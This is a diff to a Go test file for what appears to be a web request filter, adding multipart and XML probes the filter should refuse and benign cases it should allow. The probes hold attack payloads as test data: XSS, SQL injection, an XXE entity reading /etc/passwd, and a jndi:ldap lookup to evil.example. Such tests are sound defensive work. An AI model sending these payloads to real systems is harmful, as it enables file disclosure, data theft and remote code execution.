@@ -47,7 +47,7 @@ func TestCountParts(t *testing.T) {
 		refused       bool
 	}{{128, 0, false}, {129, 0, true}, {0, maxFileParts, false}, {0, maxFileParts + 1, true}, {100, 16, false}, {120, 9, true}} {
 		b, boundary := body(c.fields, c.files)
-		if err := countParts(b, boundary, 128); (err != nil) != c.refused {
+		if _, err := countParts(b, boundary, 128); (err != nil) != c.refused {
 			t.Errorf("%d fields and %d files: err %v, want refused %v", c.fields, c.files, err, c.refused)
 		}
 	}
@@ -66,7 +66,16 @@ func TestBodyShapesTheEngineMissed(t *testing.T) {
 		_, _ = w.Write(nil)
 	}
 	_ = mw.Close()
+	var fn bytes.Buffer
+	fw := multipart.NewWriter(&fn)
+	w, _ := fw.CreateFormFile("upload", "<script>alert(1)</script>.png")
+	_, _ = w.Write([]byte("png"))
+	_ = fw.Close()
 	for _, p := range []probe{
+		{name: "XSS in a multipart file name", method: "POST", path: "/upload", contentType: fw.FormDataContentType(), body: fn.String()},
+		{name: "SQL injection in an XML attribute", method: "POST", path: "/x", contentType: "application/xml", body: `<getUser id="1' UNION SELECT password FROM users--"/>`},
+		{name: "XSS in an XML attribute", method: "POST", path: "/x", contentType: "text/xml", body: `<a href="javascript:alert(document.cookie)" onload="alert(1)">x</a>`},
+		{name: "XXE in a DOCTYPE", method: "POST", path: "/x", contentType: "application/xml", body: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`},
 		{name: "jndi in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"${jndi:ldap://evil.example/a}":{}}`},
 		{name: "SQL injection in a key of []", method: "POST", path: "/j", contentType: "application/json", body: `{"sort":{"1 UNION SELECT password FROM users--":[]}}`},
 		{name: "XSS in a key of {}", method: "POST", path: "/j", contentType: "application/json", body: `{"<script>alert(1)</script>":{}}`},
@@ -80,8 +89,15 @@ func TestBodyShapesTheEngineMissed(t *testing.T) {
 		}
 	}
 	// and ordinary documents with empty members still pass
+	var okBody bytes.Buffer
+	okFile := multipart.NewWriter(&okBody)
+	fw2, _ := okFile.CreateFormFile("upload", "Quarterly report 2026 (final).pdf")
+	_, _ = fw2.Write([]byte("%PDF"))
+	_ = okFile.Close()
 	for _, p := range []probe{
 		{name: "empty list and object", method: "POST", path: "/j", contentType: "application/json", body: `{"tags":[],"meta":{},"name":"O'Brien"}`},
+		{name: "XML with attributes", method: "POST", path: "/x", contentType: "application/xml", body: `<?xml version="1.0" encoding="UTF-8"?><order id="42" customer="O'Brien" xmlns:x="urn:example"><item sku="A-1" qty="2" x:note="gift wrap, please"/></order>`},
+		{name: "an ordinary file name", method: "POST", path: "/upload", contentType: okFile.FormDataContentType(), body: okBody.String()},
 	} {
 		before := *hits
 		if code, body := send(t, base, p); code != 200 || *hits != before+1 {
